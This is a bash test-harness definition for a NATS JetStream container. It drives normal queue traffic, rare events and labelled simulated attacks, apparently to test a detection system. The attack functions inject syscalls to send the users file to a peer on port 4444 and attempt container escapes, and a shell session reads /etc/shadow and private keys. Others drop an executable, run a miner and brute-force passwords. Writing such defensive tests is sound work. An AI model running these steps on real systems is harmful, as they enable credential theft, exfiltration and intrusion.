# shellcheck shell=bash
# SPDX-License-Identifier: Apache-2.0
#
# NATS as a queue with JetStream: publishers, subscribers, requests and their answers, streams on a volume, a bucket
# of keys, users with passwords, monitoring by HTTP. It runs as user 999, as Debian's unit has it.

# shellcheck disable=SC2034 # read by lib.bash and rare.bash
set=test containers=(nats) port=4222 data_directory=/var/lib/nats
configuration_file=/etc/nats/nats.conf
health=(/usr/bin/curl -fsS -o /dev/null http://127.0.0.1:8222/healthz)
image_packages=(nats-server curl coreutils findutils gzip dash base-files libc-bin tzdata hostname)
rare_own=(leaf_node user_added tls_allowed large_stream stream_snapshot stack_dump slow_consumer many_clients
	answerer_gone stream_moved)
# It maps no library and is one process. After a full disk, 2.9 has no streams until it is started again.
rare_not=(library worker_killed volume_full)

image_prepare() {
	local tree=$1
	mkdir -p "$tree"/etc/nats/tls "$tree"/var/{lib,log}/nats
	cp "$here"/services/nats/*.conf "$tree/etc/nats/"
	echo nats:x:999:999::/var/lib/nats:/bin/false >>"$tree/etc/passwd"
	echo nats:x:999: >>"$tree/etc/group"
	openssl req -x509 -newkey rsa:2048 -nodes -days 365 -subj /CN=queue.example -keyout "$tree/etc/nats/tls/key.pem" \
		-out "$tree/etc/nats/tls/cert.pem" 2>/dev/null
	chown -R 999:999 "$tree"/var/{lib,log}/nats "$tree/etc/nats"
	chmod 600 "$tree/etc/nats/users.conf" "$tree/etc/nats/tls/key.pem"
}

container_fields() {
	user=999:999 capabilities=()
	arguments=(/usr/sbin/nats-server -c "$configuration_file")
	environment+=(QUEUE_ROLE=primary)
	volumes=(/var/lib/nats /var/log/nats)
}

# nats_as USER PASSWORD STEP…: our client, see nats/client.py.
nats_as() {
	client python3 -c "$(cat "$here/services/nats/client.py")" "$own_address" "$@"
}

queue() {
	nats_as app secret "$@"
}

# Who answers requests. It connects when the server is there, and again when it was lost.
peers() {
	answerer_start
}

answerer_start() {
	peer_start answerer python3 -c "$(cat "$here/services/nats/client.py")" "$own_address" worker letmein 'answer svc.>'
}

# With its streams, once it is there.
# shellcheck disable=SC2016 # $KV is the server's
ready() {
	queue 'stream ORDERS orders.>' 'stream KV_config $KV.config.>' 'stream ARCHIVE archive.>' \
		'consumer ORDERS billing' 'store archive.old 200 400' 'put config mode normal'
}

request() {
	local n
	n=$(between 1 40)
	case $((RANDOM % 14)) in
	0 | 1) queue "publish orders.new $((n * 4)) 200" ;;
	2 | 3) queue "store orders.paid $n $((n * 20))" ;;
	4 | 5) queue "pull ORDERS billing $((n / 2 + 1))" ;;
	6 | 7) queue "request svc.price item$n" ;;
	8) queue "put config key$((n % 7)) value$n" "get config key$((n % 7))" ;;
	9) nats_as reader readonly "listen orders.> 1" ;;
	10) queue 'info ORDERS' 'names' ;;
	11) client curl -sS -o /dev/null "http://$own_address:8222/$(pick varz connz subsz jsz healthz routez)" ;;
	12) work_as_user "$n" ;;
	13) queue "erase ORDERS $n" || nats_as app wrong names ;;
	esac
}

# Several things over one connection.
work_as_user() {
	queue "publish orders.new $1 100" "request svc.stock item$1" "store orders.sent 2 300" "info ORDERS" \
		"pull ORDERS billing 5"
}

reload_service() {
	container_signal nats HUP
}

# The log is rotated, old orders are purged, and the configuration is read again.
administer() {
	local logs
	logs=$(volume_path nats /var/log/nats)
	mv "$logs/nats.log" "$logs/nats.log.1"
	container_signal nats USR1
	nats_as admin dragon4 'purge ORDERS'
	reload_service
}

# ---- rare events ----

# A second server, at the peers, joins as a leaf.
rare_leaf_node() {
	local leaf
	printf '%s\n' 'listen: 10.88.0.1:4333' "leafnodes { remotes [ { url: \"nats://worker:letmein@$own_address:7422\" } ] }" \
		>"$stage/leaf.conf"
	cp "$images/nats/usr/sbin/nats-server" "$stage/leaf-server"
	nsenter -t "$peers_network_pid" -n "$stage/leaf-server" -c "$stage/leaf.conf" >"$stage/leaf.log" 2>&1 &
	leaf=$!
	children[$leaf]=1
	sleep 8
	queue 'publish orders.leaf 20 100'
	end "$leaf"
}

rare_user_added() {
	keep_file nats /etc/nats/users.conf
	undo reload_service
	local users
	users=$(image_path nats /etc/nats/users.conf)
	sed 's/^  users: \[/&\n    {user: carl, password: new}/' "$users" >"$users.new"
	chown 999:999 "$users.new"
	mv "$users.new" "$users"
	reload_service
	sleep 1
	nats_as carl new names
}

# The configuration gets a certificate; clients may use TLS from then on.
rare_tls_allowed() {
	local file
	file=$(image_path nats "$configuration_file")
	cp -p "$file" "$file.before"
	echo 'tls { cert_file: /etc/nats/tls/cert.pem, key_file: /etc/nats/tls/key.pem }' >>"$file"
	echo 'allow_non_tls: true' >>"$file"
	reload_service
	sleep 3
	queue names
	cp "$file.before" "$file"
	rm "$file.before"
	reload_service
}

rare_large_stream() {
	queue 'stream LARGE large.>' 'store large.data 60 200000' 'info LARGE' 'purge LARGE' 'delete LARGE'
}

rare_stream_snapshot() {
	nats_as admin dragon4 'snapshot ARCHIVE'
}

rare_stack_dump() {
	client curl -sS -o /dev/null "http://$own_address:8222/stacksz"
}

# A subscriber that reads nothing, until the server drops it.
rare_slow_consumer() {
	queue 'stall flood.> 12' &
	sleep 1
	queue 'publish flood.data 100 900000'
	wait $!
}

rare_many_clients() {
	local i pids=()
	for i in {1..12}; do
		queue 'listen orders.> 3' &
		pids+=($!)
	done
	wait "${pids[@]}" || true
}

rare_answerer_gone() {
	peer_stop answerer
	queue 'request svc.price lost'
	sleep 3
	answerer_start
}

# A stream whose subjects change, with a new consumer on it.
rare_stream_moved() {
	queue 'stream MOVED moved.>' 'store moved.a 20 100' 'consumer MOVED mover' 'pull MOVED mover 20' 'delete MOVED'
}

# ---- attacks ----

# What the server's own process is made to do, as after an overflow.
code() {
	inject_call nats nats-server "$@"
}

attack_brute_force() {
	local word
	harm call accept4
	for word in {password,monkey,dragon}{1..9}; do
		nats_as admin "$word" names && return 0
	done
	return 1
}

attack_code_connect() {
	local fd secret
	harm connect "$peer_address:4444"
	harm read '/etc/nats/users.conf'
	thief_begin
	fd=$(code 41 2 1 0)
	# AF_INET, port 4444, 10.88.0.1
	code 42 "${fd#* }" words:0x0100580a5c110002,0 16
	secret=$(code 257 -100 '"/etc/nats/users.conf"' 0 0)
	# sendfile
	code 40 "${fd#* }" "${secret#* }" 0 4096
	code 3 "${fd#* }"
	code 3 "${secret#* }"
	thief_got dragon4
}

attack_code_environment() {
	harm read '/proc/*/environ'
	code 257 -100 '"/proc/self/environ"' 0 0
}

attack_code_memory() {
	harm call mmap
	code 9 0 4096 7 0x22 -1 0
}

# Ports of the peer: those that are closed answer at once.
attack_code_scan() {
	local fd p
	harm connect "$peer_address:*"
	for p in 22 80 443 5432 6379; do
		fd=$(code 41 2 1 0)
		code 42 "${fd#* }" "words:$(printf '0x0100580a%02x%02x0002' $((p % 256)) $((p / 256))),0" 16 || true
		code 3 "${fd#* }"
	done
	[ -n "$fd" ]
}

# What could lead out of the container: the kernel's settings, a mount, another process.
attack_code_escape() {
	harm call mount
	harm call unshare
	harm call ptrace
	harm call setns
	code 165 '"none"' '"/mnt"' '"tmpfs"' 0 0 || true
	code 272 0x00020000 || true
	code 101 16 1 0 0 || true
	code 308 0 0 || true
	code 257 -100 '"/proc/sys/kernel/core_pattern"' 1 0 || true
	grep -q returned "$stage/inject.log"
}

# A program is left in the volume, and its mode makes it one.
attack_code_dropper() {
	local fd
	harm write '/var/lib/nats/.update'
	harm chmod '/var/lib/nats/.update'
	fd=$(code 257 -100 '"/var/lib/nats/.update"' 0x41 0600)
	code 1 "${fd#* }" '"#!/bin/sh\nid\n"' 13
	code 3 "${fd#* }"
	code 90 '"/var/lib/nats/.update"' 0755
}

# The engine's socket in the wrong hands: a program of the attacker's in the container.
attack_stolen_engine() {
	harm read '/etc/shadow'
	harm read '/etc/nats/users.conf'
	harm read '/etc/nats/tls/key.pem'
	session nats /bin/sh -c 'cat /etc/shadow /etc/nats/users.conf; find / -xdev -name "*.pem" -exec cat {} +' |
		grep -c 'PRIVATE KEY'
}

attack_miner() {
	harm write '/tmp/kworker'
	harm exec '/tmp/kworker'
	harm connect "$peer_address:3333"
	armoury_begin
	session nats /bin/sh -c "$(miner_commands /tmp/kworker)"
	pool_got
}

# ---- attacks that only do what the service does ----

# With a stolen password: all that is stored.
adaptive_mass_reading() {
	harm read '/var/lib/nats/jetstream/*/ARCHIVE/msgs/*.blk'
	sleep 12 # until the server has forgotten the blocks that it read last
	nats_as reader readonly 'read_all ARCHIVE' 'read_all ORDERS' | grep -c 'read [1-9]'
}

adaptive_tampering() {
	harm call pwrite64
	nats_as admin dragon4 'erase ARCHIVE 1' 'erase ARCHIVE 2' 'erase ARCHIVE 100' 'put config mode broken' \
		'store orders.paid 30 100'
}

adaptive_destruction() {
	harm unlink '/var/lib/nats/jetstream/*'
	nats_as admin dragon4 'purge ARCHIVE' 'delete ARCHIVE'
}

# Everything that is said is heard by one who should not.
adaptive_eavesdropping() {
	harm call write
	nats_as reader readonly 'listen > 6' >"$stage/heard" &
	sleep 1
	queue 'publish orders.new 50 200' 'request svc.price secret' 'store orders.paid 20 100'
	wait $!
	grep -qE 'heard [0-9]{2,}' "$stage/heard"
}
